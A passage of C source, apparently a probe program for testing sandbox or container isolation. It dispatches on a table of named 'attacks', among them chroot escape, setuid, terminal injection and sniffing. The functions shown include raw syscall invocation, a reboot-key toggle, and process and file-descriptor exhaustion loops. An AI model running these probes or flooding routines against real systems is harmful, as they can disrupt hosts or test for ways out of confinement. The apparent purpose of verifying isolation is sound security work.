	CALL(setrlimit, 75, RLIMIT_CORE, room);
	CALL(prlimit64, 340, 0, RLIMIT_CORE, room, 0);
	return hold();
}

static int domain_name(char **v)
{
	CALL(setdomainname, 121, strcpy(room, v[0]), strlen(v[0]));
	return 0;
}

/* Whether the keys that restart the machine do so at once: seen in /proc/sys/kernel/ctrl-alt-del. */
static int restart_keys(char **v)
{
	CALL(reboot, 88, (int)0xfee1dead, 672274793, atoi(v[0]) ? (int)0x89abcdef : 0);
	return 0;
}

/* Calls that need rights, with arguments that could do no harm. */
static int call(char **v)
{
	for (; *v; v++) {
		if (!strcmp(*v, "hold"))
			return hold();
		unsigned long a[6] = {0}, number;
		char *word = strtok(*v, ",");
		number = strtoul(word, NULL, 0);
		for (int i = 0; i < 6 && (word = strtok(NULL, ",")); i++)
			a[i] = strtoul(word, NULL, 0);
		sys6((struct call){(int)number, (int)number}, (long)a[0], (long)a[1], (long)a[2], (long)a[3], (long)a[4], (long)a[5]);
	}
	return 0;
}

static int crash(char **v)
{
	(void)v;
	signal(SIGSEGV, SIG_DFL);
	return kill(getpid(), SIGSEGV);
}

static int use_descriptor(char **v)
{
	if (v[1])
		return write(atoi(v[0]), v[1], strlen(v[1])) < 0;
	carry_file(atoi(v[0]));
	return 0;
}

static int plain_hold(char **v)
{
	(void)v;
	return hold();
}

/*** Exhaustion ***/

static int wait_for_parent(void *nothing)
{
	(void)nothing;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	return pause();
}

/* As many processes as there may be, up to COUNT, with little to each but itself; how many live is counted from outside. */
static int many(char **v)
{
	enum { STACK = 2048 };
	int count = atoi(v[0]);
	char *stacks = malloc((size_t)count * STACK);
	for (int i = 1; stacks && i <= count; i++)
		if (clone(wait_for_parent, stacks + i * STACK, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | SIGCHLD, NULL) < 0)
			break;
	return hold();
}

static int many_files(char **v)
{
	struct rlimit most;
	getrlimit(RLIMIT_NOFILE, &most);
	most.rlim_cur = most.rlim_max;
	setrlimit(RLIMIT_NOFILE, &most);
	for (int i = atoi(v[0]); i > 0 && open(v[1] ? v[1] : "/dev/null", O_RDONLY | O_NOCTTY) >= 0; i--)
		;
	return hold();
}

/* No attack: a program to be tried where a filter answers a call with ENOSYS. */
static int refuse(char **v)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)atoi(v[0]), 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {4, code};
	if (geteuid())
		prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program))
		return 125;
	return execvp(v[1], v + 1);
}

static const struct {
	const char *name;
	int (*act)(char **arguments);
} attacks[] = {
	{"sti", sti}, {"discipline", discipline}, {"tioclinux", tioclinux}, {"steal", steal}, {"spoil", spoil}, {"foreground", foreground},
	{"halt-output", halt_output}, {"key", key}, {"keep-key", keep_key}, {"group", groups}, {"victim", victim},
	{"starve", starve}, {"traced", traced}, {"traced-below", traced_below}, {"untied", untied}, {"untied-thread", untied_thread}, {"glance", glance}, {"stare", stare}, {"spoil-flags", spoil_flags},
	{"memory", memory}, {"seize", seize}, {"getfd", getfd}, {"signals", signals}, {"signal-directory", signal_directory}, {"overwrite", overwrite},
	{"shared-memory", shared_memory}, {"keep-shared", keep_shared}, {"queue", queue}, {"keep-queue", keep_queue},
	{"reach", reach}, {"reach-port", reach_port}, {"sniff", sniff}, {"diagnose", diagnose}, {"events", events},
	{"kernel-log", kernel_log}, {"open-handle", open_handle}, {"suid", suid}, {"suid-openat2", suid_openat2},
	{"escape-chroot", escape_chroot}, {"remount", remount}, {"uncover", uncover}, {"bind-over", bind_over},
	{"swap", swap}, {"open-device", open_device}, {"unshare", run_unshare}, {"clone", run_clone}, {"clone3", run_clone3},
	{"new-mount", new_mount}, {"netfilter", netfilter}, {"bpf", bpf_map}, {"perf", perf}, {"page-faults", page_faults},
	{"ring", ring}, {"fanotify", fanotify}, {"personality", persona}, {"core-limit", core_limit},
	{"domain-name", domain_name}, {"restart-keys", restart_keys}, {"call", call}, {"descriptor", use_descriptor}, {"crash", crash}, {"hold", plain_hold}, {"many", many},
	{"many-files", many_files}, {"fill-keys", fill_keys}, {"fill-queues", fill_queues}, {"leave-memory", leave_memory},
	{"lease", lease}, {"delegation", delegation}, {"notice", notice}, {"hint", hint}, {"whiteouts", whiteouts}, {"make-groups", make_groups},
	{"watch", watch}, {"rename", rename_one}, {"interface", interface}, {"refuse", refuse},
};

int main(int argc, char **argv)
{
	narrow = argc > 1 && !strcmp(argv[1], "-32");
	argv += 1 + narrow;
	for (size_t i = 0; *argv && i < sizeof attacks / sizeof *attacks; i++)
		if (!strcmp(attacks[i].name, *argv))
			return attacks[i].act(argv + 1);
	return 125;
}
